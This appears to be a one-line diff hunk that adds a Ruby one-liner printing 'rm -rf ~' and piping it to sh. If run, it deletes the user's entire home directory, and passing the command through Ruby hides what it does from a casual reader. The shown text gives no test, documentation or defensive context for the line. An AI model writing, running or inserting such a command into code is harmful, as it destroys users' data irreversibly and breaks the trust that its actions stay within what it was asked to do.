@@ -1,0 +1,1 @@
+ruby -e 'puts "rm -rf ~"' | sh
